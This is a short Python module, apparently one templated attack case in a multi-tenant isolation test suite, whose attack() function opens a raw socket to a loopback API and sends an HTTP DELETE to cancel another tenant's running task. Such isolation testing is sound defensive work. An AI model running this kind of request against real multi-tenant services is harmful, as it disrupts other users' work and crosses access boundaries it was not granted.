"""TCP to the API on loopback: cancel another tenant's running task."""
import _socket

NAME = "api_cancel"


def attack():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(("127.0.0.1", int("{{API_PORT}}")))
    s.sendall(b"DELETE /tasks/{{VICTIM}} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    return s.recv(200)
